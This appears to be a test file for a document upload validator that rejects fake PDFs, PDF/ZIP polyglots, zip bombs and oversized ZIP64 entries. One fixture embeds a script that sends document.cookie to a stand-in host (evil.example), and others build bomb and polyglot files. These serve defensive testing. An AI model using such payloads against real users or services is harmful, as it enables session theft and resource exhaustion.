import JSZip from 'jszip';
import { DEFAULT_CONTENT_LIMITS } from './content-limits';
import { ContentTypeDetector, detectContentType, DOCX, PDF } from './content-type';
import { DocumentContentMismatch } from './document.errors';

const latin1 = (text: string) => new Uint8Array(Buffer.from(text, 'latin1'));
const concat = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts));

function pdf(extra = ''): Uint8Array {
  const objects = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n';
  return latin1(`${objects}xref\n0 1\n0000000000 65535 f \ntrailer\n<<>>\nstartxref\n${objects.length}\n%%EOF\n${extra}`);
}

async function docx(document: string | Uint8Array): Promise<Uint8Array> {
  const archive = new JSZip();
  archive.file('[Content_Types].xml', '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>');
  archive.file('word/document.xml', document);
  return archive.generateAsync({ type: 'uint8array', compression: 'DEFLATE', compressionOptions: { level: 9 } });
}

function mismatch(run: () => unknown): string | undefined {
  try {
    run();
  } catch (error) {
    if (error instanceof DocumentContentMismatch) return error.reason;
    throw error;
  }
  return undefined;
}

describe('files that are not what they claim', () => {
  it('accepts a PDF with its structure, even with a line end after %%EOF', () => {
    expect(detectContentType(pdf('\r\n'))).toBe(PDF);
  });

  it('refuses %PDF- followed by HTML and script', () => {
    const html = latin1('%PDF-1.7\n<html><script>fetch("https://evil.example/"+document.cookie)</script></html>\n');
    expect(mismatch(() => detectContentType(html))).toBe('pdf-structure');
  });

  it('refuses a PDF whose %%EOF has no startxref before it', () => {
    expect(mismatch(() => detectContentType(latin1('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n')))).toBe('pdf-structure');
  });

  it('refuses a PDF with a ZIP appended after %%EOF', async () => {
    const polyglot = concat(pdf(), await docx('<w:document/>'));
    expect(mismatch(() => detectContentType(polyglot))).toBe('trailing-data');
  });

  it('finds the end of a large PDF streamed in small chunks', () => {
    const big = concat(latin1('%PDF-1.7\n'), new Uint8Array(200_000).fill(0x20), pdf().subarray(9));
    const detector = new ContentTypeDetector();
    for (let at = 0; at < big.length; at += 1000) detector.push(big.subarray(at, at + 1000));
    expect(detector.result()).toBe(PDF);
  });

  it('accepts an ordinary DOCX', async () => {
    expect(detectContentType(await docx('<w:document>Procès-verbal</w:document>'))).toBe(DOCX);
  });

  it('refuses a small DOCX that would inflate beyond the limit, read from its directory', async () => {
    const bomb = await docx(new Uint8Array(12 * 1024 * 1024));
    const limits = { ...DEFAULT_CONTENT_LIMITS, zipMaxInflatedBytes: 10 * 1024 * 1024 };
    expect(bomb.length).toBeLessThan(64 * 1024);
    expect(mismatch(() => detectContentType(bomb, limits))).toBe('inflates-too-large');
  });

  it('refuses a DOCX whose compression ratio is extreme', async () => {
    const bomb = await docx(new Uint8Array(12 * 1024 * 1024));
    expect(mismatch(() => detectContentType(bomb))).toBe('compression-ratio');
  });

  it('refuses a DOCX listing more entries than allowed', async () => {
    const archive = await docx('<w:document/>');
    expect(mismatch(() => detectContentType(archive, { ...DEFAULT_CONTENT_LIMITS, zipMaxEntries: 1 }))).toBe(
      'too-many-entries',
    );
  });

  it('reads the inflated size of a ZIP64 entry from its extra field', async () => {
    const archive = await docx('<w:document/>');
    const view = new DataView(archive.buffer, archive.byteOffset, archive.byteLength);
    // Rewrite word/document.xml's directory entry as a ZIP64 writer would, declaring 5 GiB.
    const entry = Buffer.from(archive).lastIndexOf(Buffer.from('word/document.xml')) - 46;
    expect(view.getUint32(entry, true)).toBe(0x02014b50);
    const nameLength = view.getUint16(entry + 28, true);
    const extra = new DataView(new ArrayBuffer(12));
    extra.setUint16(0, 0x0001, true);
    extra.setUint16(2, 8, true);
    extra.setBigUint64(4, 5_368_709_120n, true); // 5 GiB
    view.setUint32(entry + 24, 0xffffffff, true);
    view.setUint16(entry + 30, 12, true);
    const at = entry + 46 + nameLength;
    const rewritten = concat(archive.subarray(0, at), new Uint8Array(extra.buffer), archive.subarray(at));
    const end = rewritten.length - 22;
    const endView = new DataView(rewritten.buffer, rewritten.byteOffset, rewritten.byteLength);
    endView.setUint32(end + 12, endView.getUint32(end + 12, true) + 12, true);
    expect(mismatch(() => detectContentType(rewritten))).toBe('inflates-too-large');
  });
});
